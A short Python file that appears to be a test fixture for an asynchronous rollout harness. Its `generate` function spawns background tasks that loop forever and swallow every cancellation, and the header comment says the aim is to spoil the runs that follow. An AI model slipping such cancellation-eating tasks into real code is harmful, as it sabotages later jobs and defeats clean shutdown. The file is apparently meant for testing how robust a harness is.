# Leaves tasks behind that eat every cancellation, to spoil the runs that follow.
import asyncio


async def ghost():
    while True:
        try:
            await asyncio.get_running_loop().create_future()
        except asyncio.CancelledError:
            pass


async def generate(rollout_id, semaphore, state):
    asyncio.create_task(ghost())
    await asyncio.sleep(0)
    return rollout_id
